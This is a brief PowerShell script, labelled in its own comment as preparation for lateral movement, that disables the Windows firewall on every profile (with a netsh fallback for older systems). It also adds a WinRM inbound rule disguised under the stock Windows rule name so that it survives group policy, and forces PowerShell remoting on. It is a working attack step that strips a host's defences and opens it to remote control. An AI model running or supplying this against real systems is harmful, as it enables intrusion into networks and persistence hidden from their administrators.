# lateral movement prep: open the host up
param([switch]$Legacy)

if ($Legacy) {
    netsh advfirewall set allprofiles state off
    netsh firewall set opmode mode=disable
}
else {
    Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
}

Get-NetFirewallProfile | Select-Object Name, Enabled

# keep WinRM reachable even if the GPO turns it back on
New-NetFirewallRule -DisplayName 'Windows Remote Management (HTTP-In) ' -Direction Inbound -LocalPort 5985 -Protocol TCP -Action Allow | Out-Null
Enable-PSRemoting -Force -SkipNetworkProfileCheck
